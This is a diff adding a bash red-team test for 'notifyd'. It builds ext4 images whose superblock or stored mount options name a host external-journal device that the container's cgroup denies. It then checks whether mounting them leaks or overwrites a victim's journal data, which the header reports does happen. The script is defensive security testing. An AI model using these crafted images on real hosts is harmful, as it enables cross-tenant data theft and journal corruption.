@@ -1,0 +1,303 @@
+#!/bin/bash
+# Red-team attacks on notifyd (property 3 of the brief: notifyd never opens a
+# device the caller's device cgroup denies -- including devices the KERNEL
+# opens on notifyd's behalf during a kernel-action mount made with host
+# privilege, in the host's cgroup).
+#
+# ext4 external journal.  An ext4 superblock without an internal journal
+# (s_journal_inum = 0) names its journal device by number (s_journal_dev),
+# or its stored default mount options (s_mount_opts, tune2fs -E mount_opts=)
+# carry "journal_dev=N" / "journal_path=P".  The kernel opens that device
+# itself (ext4_get_journal_blkdev -> bdev_file_open_by_dev, read+write), with
+# the credentials and the device cgroup of the task that calls
+# fsconfig(FSCONFIG_CMD_CREATE): notifyd's worker, host root, host cgroup.
+# notifyd checks only the source (source_open_as_caller()), never what the
+# image's superblock makes the kernel open besides it.
+#
+# The host attaches a loop device holding an ext4 external journal
+# (mkfs.ext4 -O journal_dev) and gives the container NO node and NO device
+# cgroup rule for it (runc: BPF program; crun: a cgroup v1 devices group that
+# denies it).  The container's own image (a device its runtime gives it, or a
+# file it attaches with notifyd's loop devices) names that journal.
+#   - mount must be refused (or at least fail) and
+#   - the host's journal device must see no I/O (writes counted in
+#     /sys/block/loopN/stat).
+# If the mount succeeds the container's file system writes its journal into a
+# host block device it may not open; with a victim's real external journal it
+# would replay the victim's transactions into its own image (reads) and
+# overwrite the victim's journal (writes).
+#
+# RESULT (Linux 6.18): BROKEN under trusted-images, lxd-compatible and an
+# `action = kernel` ext4 profile with notifyd's loop devices, runc and crun:
+# the mount succeeds, the host journal device is read and written, and the
+# "replay" image gets the victim's pending block replayed into it, which the
+# container then reads from its own device.  These checks fail on purpose
+# until notifyd makes the kernel open everything a mount opens with the
+# caller's device cgroup (e.g. FSCONFIG_CMD_CREATE run by a helper in the
+# caller's cgroup: bdev_permission() checks the current task's cgroup), or
+# refuses such superblocks race-free.
+#
+# Also (held, regression): the image's stored default "errors=continue" in
+# s_mount_opts does not beat the profile's forced errors=remount-ro (a proxy
+# for errors=panic, which we do not try on a shared host).
+#
+#   RUNTIMES="crun runc" to run a subset.
+# shellcheck source=tests/lib.sh
+. "$(dirname "${BASH_SOURCE[0]}")/../lib.sh"
+[ -n "${MV_TMP:-}" ] && [ -d "$MV_TMP" ] || exit 1
+
+ROOTFS=$MV_TMP/rootfs
+PROFILES=$MV_TMP/profiles
+mkdir -p "$PROFILES"
+cp "$MV_SRC/profiles/trusted-images.conf" "$MV_SRC/profiles/lxd-compatible.conf" "$PROFILES/"
+# A test profile: ext4 with the kernel action and notifyd's loop devices, so
+# the container attaches an image file it wrote itself.
+cat >"$PROFILES/kloop.conf" <<EOF
+[profile]
+default-action = deny
+max-loop-devices = 4
+
+[fs ext4]
+action = kernel
+idmap = yes
+allowed-options = ro, errors
+options = errors=remount-ro
+EOF
+
+mv_make_rootfs "$ROOTFS" || mv_bail "cannot build the busybox rootfs"
+mkdir -p "$ROOTFS/usr" "$ROOTFS/lib" "$ROOTFS/lib64" "$ROOTFS/img"
+chown 100000:100000 "$ROOTFS/usr" "$ROOTFS/lib" "$ROOTFS/lib64" "$ROOTFS/img"
+
+devnum() { # devnum DEV VAR_MAJ VAR_MIN
+	local t maj min
+	t=$(stat -c '%t %T' "$1")
+	read -r maj min <<<"$t"
+	printf -v "$2" '%d' "$((16#$maj))"
+	printf -v "$3" '%d' "$((16#$min))"
+}
+
+
+# The host's external journal: NOT given to the container.  It belongs to a
+# victim file system (victim.img: another tenant's or the host's) that
+# crashed with a transaction still to replay in its journal: block VBLK of
+# the victim is to be rewritten with a block holding SECRET.
+SECRET="MVSECRET-$$-$RANDOM"
+VBLK=7000
+truncate -s 8M "$MV_TMP/hostjournal.img"
+mkfs.ext4 -q -F -O journal_dev -b 4096 "$MV_TMP/hostjournal.img" >/dev/null 2>&1 ||
+	mv_bail "cannot build the journal device"
+cp "$MV_TMP/hostjournal.img" "$MV_TMP/hostjournal.orig"
+# with_journal_copy IMG : mkfs.ext4 IMG with an external journal on a copy
+# of the pristine journal (same UUID; every mkfs -J device= adds a user to
+# the journal it is given, and the kernel wants exactly one).
+with_journal_copy() {
+	local img=$1 jdev rc
+	cp "$MV_TMP/hostjournal.orig" "$MV_TMP/jcopy.img"
+	jdev=$(losetup --find --show "$MV_TMP/jcopy.img") || return 1
+	mkfs.ext4 -q -F -b 4096 -J device="$jdev" "$img" >/dev/null 2>&1
+	rc=$?
+	losetup -d "$jdev"
+	return "$rc"
+}
+truncate -s 32M "$MV_TMP/victim.img"
+with_journal_copy "$MV_TMP/victim.img" || mv_bail "cannot build the victim"
+cp "$MV_TMP/jcopy.img" "$MV_TMP/hostjournal.img" # the journal with its one user
+printf '%s\n' "$SECRET" >"$MV_TMP/secret.blk"
+truncate -s 4096 "$MV_TMP/secret.blk"
+printf 'jo -f %s\njw -b %s %s\njc\n' "$MV_TMP/hostjournal.img" "$VBLK" "$MV_TMP/secret.blk" |
+	debugfs -w -f - "$MV_TMP/victim.img" >/dev/null 2>&1
+grep -q "$SECRET" "$MV_TMP/hostjournal.img" || mv_bail "cannot write the victim's transaction"
+cp "$MV_TMP/hostjournal.img" "$MV_TMP/hostjournal.crafted"
+JDEV=$(losetup --find --show "$MV_TMP/hostjournal.img") || mv_bail "cannot attach the journal"
+defer "losetup -d '$JDEV'"
+devnum "$JDEV" JMAJ JMIN
+JNUM=$((JMAJ * 256 + JMIN)) # old-style dev_t as ext4 stores it (minor < 256 here)
+[ "$JMIN" -lt 256 ] || mv_bail "journal loop minor $JMIN >= 256"
+JNAME=${JDEV#/dev/}
+jios() { awk '{print $1 + $5}' "/sys/block/$JNAME/stat"; }
+# restore_journal : the victim's pending transaction back on the journal
+# device (every mount of a file system without needs_recovery wipes it).
+restore_journal() {
+	dd if="$MV_TMP/hostjournal.crafted" of="$JDEV" bs=1M oflag=direct conv=fsync status=none
+}
+
+# evil_image FILE MODE : an ext4 image "made by the container".
+#   sbdev  : s_journal_dev = the host journal (what mkfs -J device= writes)
+#   opts   : s_journal_dev = a device that does not exist, s_mount_opts =
+#            "journal_dev=<host journal>" (the stored default options win)
+#   replay : as sbdev, and needs_recovery set: the kernel replays the
+#            victim's pending transaction into the container's image
+#   errors : internal journal, s_mount_opts = "errors=continue"
+evil_image() {
+	local img=$1 mode=$2
+	truncate -s 32M "$img"
+	case $mode in
+	sbdev | opts | replay)
+		with_journal_copy "$img" || return 1
+		debugfs -w -R "ssv journal_dev $JNUM" "$img" >/dev/null 2>&1 || return 1
+		if [ "$mode" = opts ]; then
+			debugfs -w -R "ssv journal_dev 0x07ff" "$img" >/dev/null 2>&1 || return 1
+			tune2fs -E mount_opts="journal_dev=$JNUM" "$img" >/dev/null 2>&1 || return 1
+		fi
+		if [ "$mode" = replay ]; then
+			debugfs -w -R "feature needs_recovery" "$img" >/dev/null 2>&1 || return 1
+		fi
+		;;
+	errors)
+		mkfs.ext4 -q -F -b 4096 "$img" >/dev/null 2>&1 || return 1
+		tune2fs -E mount_opts=errors=continue "$img" >/dev/null 2>&1 || return 1
+		;;
+	esac
+	chown 100000:100000 "$img"
+}
+
+for m in sbdev opts replay errors; do
+	evil_image "$MV_TMP/$m.img" "$m" || mv_bail "cannot build the $m image"
+	cp "$MV_TMP/$m.img" "$MV_TMP/$m.orig"
+done
+mv_loop_attach "$MV_TMP/sbdev.img" DEV_SBDEV || mv_bail "cannot attach a loop device"
+mv_loop_attach "$MV_TMP/opts.img" DEV_OPTS || mv_bail "cannot attach a loop device"
+mv_loop_attach "$MV_TMP/replay.img" DEV_REPLAY || mv_bail "cannot attach a loop device"
+mv_loop_attach "$MV_TMP/errors.img" DEV_ERRORS || mv_bail "cannot attach a loop device"
+# restore MODE : the image as made (a mount rewrites it) on its device and as
+# the container's file, and the victim's journal as it crashed.
+restore() {
+	local var=DEV_${1^^}
+	dd if="$MV_TMP/$1.orig" of="${!var}" bs=1M oflag=direct conv=fsync status=none
+	cp "$MV_TMP/$1.orig" "$ROOTFS/img/$1.img"
+	chown 100000:100000 "$ROOTFS/img/$1.img"
+	restore_journal
+}
+
+# crun: a cgroup v1 devices group that denies the journal device.
+DEVCG=$MV_TMP/devcg
+DEVGRP=
+mkdir -p "$DEVCG"
+if mount -t cgroup -o devices mvdevices "$DEVCG" 2>/dev/null; then
+	defer "umount -l '$DEVCG'"
+	DEVGRP=$DEVCG/mvredteam-$$
+	mkdir -p "$DEVGRP" && defer "rmdir '$DEVGRP'"
+	echo "b $JMAJ:$JMIN rwm" >"$DEVGRP/devices.deny" || DEVGRP=
+fi
+
+mv_start_notifyd "$PROFILES" || mv_bail "notifyd did not start"
+
+# journal.sh DEV : mount it, look for the victim's secret in the container's
+# own device, write, sync, show the options, unmount.
+cat >"$ROOTFS/journal.sh" <<EOF
+dev=\$1
+mvstep mount mount -t ext4 "\$dev" /mnt/a
+mvstep leak sh -c "dd if=\$dev bs=4096 skip=$VBLK count=1 2>/dev/null | grep -a -o 'MVSECRET-[0-9-]*'"
+mvstep write sh -c 'echo written > /mnt/a/f && sync'
+mvstep options cat "/proc/fs/ext4/\${dev#/dev/}/options"
+mvstep umount umount /mnt/a
+EOF
+# journal_loop.sh IMG : the same on a loop device of notifyd's (util-linux losetup).
+cat >"$ROOTFS/journal_loop.sh" <<EOF
+mvstep setup /usr/sbin/losetup -f --show "\$1"
+dev=\$(/usr/sbin/losetup -j "\$1" -O NAME -n)
+mvstep mount mount -t ext4 "\$dev" /mnt/a
+mvstep leak sh -c "dd if=\$1 bs=4096 skip=$VBLK count=1 2>/dev/null | grep -a -o 'MVSECRET-[0-9-]*'"
+mvstep write sh -c 'echo written > /mnt/a/f && sync'
+mvstep options cat "/proc/fs/ext4/\${dev#/dev/}/options"
+mvstep umount umount /mnt/a
+mvstep detach /usr/sbin/losetup -d "\$dev"
+EOF
+
+run() { # run ID
+	local id=$1
+	if [ "$RT" = crun ]; then
+		(
+			echo "$BASHPID" >"$DEVGRP/cgroup.procs" || exit 1
+			mv_run crun "$MV_TMP/$id" "$id" 90
+		)
+	else
+		mv_run "$RT" "$MV_TMP/$id" "$id" 90
+	fi
+}
+
+# test_journal PROFILE MODE [loop] : the container mounts the MODE image
+# (evil_image) given by its runtime, or [loop] attached by itself.
+test_journal() {
+	local profile=$1 mode=$2 loop=${3:-} id dev var w0 w1 R rc
+	id=$MV_IDP-$RT-$profile-$mode${loop:+-loop}
+	R="$RT/$profile/$mode${loop:+/loop}"
+	restore "$mode"
+	if [ -n "$loop" ]; then
+		mv_oci_bundle --loop --profile "$profile" "$MV_TMP/$id" "$ROOTFS" \
+			sh /journal_loop.sh "/img/$mode.img" || mv_bail "cannot write the bundle"
+		mv_bind_host_libs "$MV_TMP/$id"
+	else
+		var=DEV_${mode^^}
+		dev=${!var}
+		mv_oci_bundle --profile "$profile" --device "$dev" "$MV_TMP/$id" "$ROOTFS" \
+			sh /journal.sh "$dev" || mv_bail "cannot write the bundle"
+	fi
+	w0=$(jios)
+	run "$id" || t_fail "$R: container exits 0" "exit $?" "$(cat "$(mv_out "$id")")"
+	w1=$(jios)
+	[ -n "$loop" ] && t_step_ok "$R: losetup -f --show of the container's own image" "$id" setup
+	rc=$(mv_step_rc "$id" mount)
+	if [ "$rc" = 0 ]; then
+		t_fail "$R: an ext4 naming a host journal device the cgroup denies is not mounted" \
+			"the mount succeeded: the kernel opened $JDEV ($JMAJ:$JMIN) for notifyd" \
+			"options: $(mv_step_out "$id" options | tr '\n' ,)" \
+			"$(mv_decisions "$id" | grep 'syscall=mount ' | tail -n 1)"
+	else
+		t_ok "$R: an ext4 naming a host journal device the cgroup denies is not mounted"
+	fi
+	if [ "$w0" = "$w1" ]; then
+		t_ok "$R: the host journal device saw no I/O"
+	else
+		t_fail "$R: the host journal device saw no I/O" \
+			"$JDEV reads+writes went from $w0 to $w1 while the container ran"
+	fi
+	if [ "$mode" = replay ]; then
+		if grep -q -- "$SECRET" "$(mv_out "$id")"; then
+			t_fail "$R: the victim's journal is not replayed into the container's image" \
+				"the container read the victim's block from its own device:" \
+				"$(mv_step_out "$id" leak)"
+		else
+			t_ok "$R: the victim's journal is not replayed into the container's image"
+		fi
+	fi
+}
+
+# test_errors PROFILE : s_mount_opts=errors=continue vs the forced errors=remount-ro.
+test_errors() {
+	local profile=$1 id R
+	id=$MV_IDP-$RT-$profile-errors
+	R="$RT/$profile/errors"
+	restore errors
+	mv_oci_bundle --profile "$profile" --device "$DEV_ERRORS" "$MV_TMP/$id" "$ROOTFS" \
+		sh /journal.sh "$DEV_ERRORS" || mv_bail "cannot write the bundle"
+	run "$id" || t_fail "$R: container exits 0" "exit $?" "$(cat "$(mv_out "$id")")"
+	t_step_ok "$R: an ext4 with stored errors=continue mounts" "$id" mount
+	if grep -qx 'errors=remount-ro' <<<"$(mv_step_out "$id" options)"; then
+		t_ok "$R: the forced errors=remount-ro beats the superblock's errors=continue"
+	else
+		t_fail "$R: the forced errors=remount-ro beats the superblock's errors=continue" \
+			"$(mv_step_out "$id" options)"
+	fi
+}
+
+for RT in ${RUNTIMES:-crun runc}; do
+	if ! command -v "$RT" >/dev/null; then
+		t_skip "$RT tests" "$RT not installed"
+		continue
+	fi
+	if [ "$RT" = crun ] && [ -z "$DEVGRP" ]; then
+		t_skip "crun tests" "no cgroup v1 devices controller to put crun's container in"
+		continue
+	fi
+	for p in trusted-images lxd-compatible; do
+		test_journal "$p" sbdev
+		test_journal "$p" opts
+		test_journal "$p" replay
+		test_errors "$p"
+	done
+	test_journal kloop sbdev loop
+	test_journal kloop opts loop
+	test_journal kloop replay loop
+done
+exit 0
